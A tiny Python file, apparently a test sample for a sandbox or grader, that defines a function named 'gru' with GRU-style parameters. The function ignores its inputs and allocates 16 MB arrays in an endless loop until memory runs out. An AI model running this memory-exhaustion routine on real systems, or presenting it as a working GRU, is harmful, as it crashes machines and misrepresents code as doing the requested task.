"""Fills one array after the other."""

import numpy as np


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    blocks = []
    while True:
        blocks.append(np.ones(1 << 21))
